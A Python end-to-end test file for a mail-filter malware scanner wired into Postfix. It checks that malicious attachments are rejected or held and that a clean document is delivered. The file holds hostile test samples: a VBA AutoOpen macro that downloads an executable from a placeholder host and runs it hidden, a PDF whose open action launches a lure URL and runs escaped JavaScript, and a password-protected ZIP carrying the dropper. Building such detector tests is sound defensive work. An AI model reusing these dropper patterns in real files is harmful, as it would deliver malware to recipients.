"""End to end: a real Postfix on loopback, the `maldoc milter` command, real SMTP.

Postfix gets two SMTP listeners, each with its own milter process: one running
`--policy quarantine` (every non-clean message goes to Postfix's hold queue), one running
`--policy reject` (every non-clean message is refused with 550 5.7.1 during DATA). Four messages
go to both: a clean .docx, a macro dropper, a PDF with JavaScript, and an encrypted ZIP (holding
the dropper) whose password is in the body. The test asserts what Postfix did with each
(delivered with the X-Maldoc-* headers, held with them, or rejected), and that the milter's
header agrees with the engine's own verdict for the same message.

Skipped, with the reason, where Postfix, pymilter or root are missing (scripts/install-postfix.sh).
"""

from __future__ import annotations

import io
import random
import smtplib
import subprocess
import zipfile
from contextlib import ExitStack
from email import message_from_bytes
from email.message import EmailMessage
from pathlib import Path

import pytest
from postfix_env import DOMAIN, free_port, milter_process, missing, postfix, wait_port

pytestmark = [pytest.mark.slow, pytest.mark.skipif(missing() is not None, reason=str(missing()))]

PASSWORD = "Invoice-2024"
SENDER = "billing@sender.test"
RCPT = f"accounts@{DOMAIN}"


# -- the documents ------------------------------------------------------------------------------
def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    return buf.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>")
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'officeDocument" Target="word/document.xml"/></Relationships>')
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>Minutes of the quarterly planning meeting.</w:t></w:r></w:p></w:body></w:document>")

DROPPER_VBA = """\
Sub AutoOpen()
    Dim target As String
    target = Environ("TEMP") & "\\update.exe"
    URLDownloadToFile 0, "http://invoice-update.example.invalid/update.exe", target, 0, 0
    Shell target, vbHide
End Sub
"""

PDF_JS = (
    b"%PDF-1.7\n"
    b"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
    b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj\n"
    b"4 0 obj << /Type /Action /S /JavaScript /JS (app.launchURL('http://pdf-lure.example.invalid/x', true); "
    b"eval(unescape('%61%6c%65%72%74%28%31%29'));) >> endobj\n"
    b"trailer << /Root 1 0 R /Size 5 >>\n%%EOF\n")


def _generated(family: str) -> bytes | None:
    """A document from the synthetic generator (maldoc.samples), when it has that template."""
    try:
        from maldoc.samples import generate, registry
    except ImportError:
        return None
    assert generate  # importing it registers every template
    template = registry.TEMPLATES.get(family)
    return template.build(random.Random(7))[1] if template else None


def clean_docx() -> bytes:
    return _generated("docx_plain") or _zip([("[Content_Types].xml", CONTENT_TYPES.encode()),
                                             ("_rels/.rels", RELS.encode()), ("word/document.xml", DOCUMENT.encode())])


def macro_dropper() -> tuple[str, bytes]:
    """A document with a real VBA project whose auto-run macro downloads and starts a program."""
    generated = _generated("docm_vba_dropper")
    if generated:
        return "invoice.docm", generated
    from maldoc.samples import oledoc, ovba  # the generator's building blocks, without its templates

    module = ovba.Module("NewMacros", DROPPER_VBA)
    return "invoice.doc", oledoc.doc("Enable editing to view the invoice.", [module],
                                     oledoc.project_id(b"maldoc-milter-e2e"))


def pdf_with_javascript() -> bytes:
    return _generated("pdf_openaction_js") or PDF_JS


def encrypted_zip(name: str, data: bytes) -> bytes:
    import pyzipper

    buf = io.BytesIO()
    with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(PASSWORD.encode())
        zf.writestr(name, data)
    return buf.getvalue()


def message(case: str, body: str, name: str, data: bytes, mime: str) -> bytes:
    msg = EmailMessage()
    msg["From"] = SENDER
    msg["To"] = RCPT
    msg["Subject"] = f"Documents for you ({case})"
    msg["X-Test-Case"] = case
    msg["X-Maldoc-Verdict"] = "forged-by-sender"  # the milter must replace it, not add a second one
    msg.set_content(body)
    maintype, subtype = mime.split("/")
    msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def messages() -> dict[str, bytes]:
    dropper_name, dropper = macro_dropper()
    return {
        "clean-docx": message("clean-docx", "Hello, the minutes are attached.", "minutes.docx", clean_docx(),
                              "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        "macro-dropper": message("macro-dropper", "Please find the invoice attached.", dropper_name, dropper,
                                 "application/octet-stream"),
        "pdf-javascript": message("pdf-javascript", "Your statement is attached.", "statement.pdf",
                                  pdf_with_javascript(), "application/pdf"),
        "encrypted-zip": message("encrypted-zip", f"The archive is protected. Password: {PASSWORD}",
                                 "invoice.zip", encrypted_zip(dropper_name, dropper), "application/zip"),
    }


# -- the environment ----------------------------------------------------------------------------
MILTERS = {"quarantine": ["--policy", "quarantine", "--suspicious-policy", "quarantine"],
           "reject": ["--policy", "reject", "--suspicious-policy", "reject"]}


@pytest.fixture(scope="module")
def gateway(tmp_path_factory):
    """Postfix with one SMTP listener per milter policy (`smtp_ports[policy]`), and the milters' logs."""
    logs = tmp_path_factory.mktemp("milter-logs")
    ports = {policy: free_port() for policy in MILTERS}
    with ExitStack() as stack:
        procs = {policy: stack.enter_context(milter_process(
            ports[policy], "--model", "rules", "--jobs", "1", "--timeout-s", "60", "--fail-closed", *args,
            log_path=logs / f"{policy}.log", wait=False)) for policy, args in MILTERS.items()}
        for policy, proc in procs.items():  # started together, awaited in turn
            wait_port(ports[policy], timeout_s=120, proc=proc)
        yield stack.enter_context(postfix(ports)), logs


def send(port: int, raw: bytes) -> str:
    """Send over SMTP; the queue id Postfix answered, or raise SMTPDataError when refused."""
    with smtplib.SMTP("127.0.0.1", port, timeout=120) as smtp:
        smtp.ehlo("client.sender.test")
        smtp.mail(SENDER)
        smtp.rcpt(RCPT)
        code, answer = smtp.data(raw)
        if code != 250:
            raise smtplib.SMTPDataError(code, answer)
    return answer.decode().rsplit(" ", 1)[-1]  # "2.0.0 Ok: queued as 4Xyz..."


def expected_verdicts(sent: dict[str, bytes]) -> dict[str, tuple[str, float]]:
    """What the engine says, in this process, for the same messages the milter sees."""
    from maldoc import scan
    from maldoc.scoring import RuleScorer

    out = {}
    for case, raw in sent.items():
        verdict = scan(raw, "message.eml", model=RuleScorer())
        out[case] = (verdict.label.value, verdict.score)
        if case == "encrypted-zip":  # the body's password opened the archive: the document inside was scanned
            inner = [v for v in verdict.walk() if v.path.startswith("message.eml > invoice.zip > ")]
            assert inner and inner[0].findings, [v.path for v in verdict.walk()]
    return out


def held_headers(instance, queue_id: str):
    out = subprocess.run(["postcat", "-c", str(instance.config_dir), "-h", "-q", queue_id],
                         capture_output=True, check=True, timeout=30).stdout
    return message_from_bytes(out)


def debug(instance, logs: Path) -> str:
    milters = "\n".join(f"--- milter {p.name} ---\n{p.read_text()[-3000:]}" for p in sorted(logs.glob("*.log")))
    return f"{milters}\n--- Postfix ---\n{instance.log()[-4000:]}"


# -- the test -----------------------------------------------------------------------------------
def test_postfix_delivers_holds_and_rejects_per_verdict(gateway):
    instance, logs = gateway
    sent = messages()
    expected = expected_verdicts(sent)
    assert expected["clean-docx"][0] == "clean", expected
    for case in ("macro-dropper", "pdf-javascript", "encrypted-zip"):
        assert expected[case][0] in ("malicious", "suspicious"), f"{case}: engine says {expected[case]}"

    # Reject policy: every non-clean message refused during DATA, the clean one accepted.
    reject_port = instance.smtp_ports["reject"]
    accepted_by_reject = {}
    for case, raw in sent.items():
        if expected[case][0] == "clean":
            accepted_by_reject[case] = send(reject_port, raw)
            continue
        with pytest.raises(smtplib.SMTPDataError) as refused:
            send(reject_port, raw)
        assert refused.value.smtp_code == 550, debug(instance, logs)
        assert refused.value.smtp_error.startswith(b"5.7.1 Message rejected as"), refused.value.smtp_error

    # Quarantine policy: non-clean ones land in the hold queue, tagged; the clean one is delivered.
    queued = {case: send(instance.smtp_ports["quarantine"], raw) for case, raw in sent.items()}
    held_ids = {case: queued[case] for case in queued if expected[case][0] != "clean"}
    hold = instance.wait_for(
        lambda: (lambda q: q if set(held_ids.values()) <= q else None)(
            {m["queue_id"] for m in instance.queue() if m["queue_name"] == "hold"}),
        what=f"messages {held_ids} in the hold queue")
    assert set(held_ids.values()) <= hold
    for case, queue_id in held_ids.items():
        headers = held_headers(instance, queue_id)
        assert headers["X-Test-Case"] == case
        assert headers.get_all("X-Maldoc-Verdict") == [expected[case][0]], debug(instance, logs)
        # Same score as the engine in this process: the milter scanned the whole message, the
        # encrypted archive's insides included.
        assert float(headers["X-Maldoc-Score"]) == pytest.approx(expected[case][1], abs=1e-4)
        assert headers["X-Maldoc-Reason"]

    # Delivered: the clean message twice (once per listener), with the headers, nothing else.
    delivered = instance.wait_for(lambda: (lambda d: d if len(d) >= 2 else None)(instance.delivered()),
                                  what="two deliveries of the clean message")
    assert sorted(m["X-Test-Case"] for m in delivered) == ["clean-docx", "clean-docx"], debug(instance, logs)
    for msg in delivered:
        assert msg.get_all("X-Maldoc-Verdict") == ["clean"]  # the sender's forged copy is gone
        assert float(msg["X-Maldoc-Score"]) == pytest.approx(expected["clean-docx"][1], abs=1e-4)
    assert "milter-hold" in instance.log() and "milter-reject" in instance.log()
